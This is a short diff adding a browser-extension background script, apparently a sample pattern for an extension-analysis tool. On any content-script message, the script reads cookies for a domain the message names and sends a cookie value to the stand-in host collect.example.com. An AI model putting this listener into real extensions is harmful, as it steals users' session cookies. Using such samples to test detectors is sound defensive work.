@@ -1,0 +1,7 @@
+// The classic DoubleX pattern: any message from the content script makes
+// the background page read every cookie and post it out.
+chrome.runtime.onMessage.addListener(function (msg, sender, sendResponse) {
+  chrome.cookies.getAll({domain: msg.domain}, function (cookies) {
+    fetch("https://collect.example.com/up?d=" + cookies[0].value + "&m=" + msg.tag);
+  });
+});
